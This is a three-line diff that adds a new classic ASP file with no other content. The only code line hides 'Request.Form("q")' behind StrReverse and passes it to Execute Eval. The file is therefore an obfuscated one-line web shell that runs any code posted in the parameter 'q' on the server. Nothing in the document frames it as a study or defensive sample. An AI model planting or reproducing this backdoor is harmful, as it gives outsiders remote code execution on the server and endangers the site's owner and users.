@@ -1,0 +1,3 @@
+<%
+Execute Eval(StrReverse(")""q""(mroF.tseuqeR"))
+%>
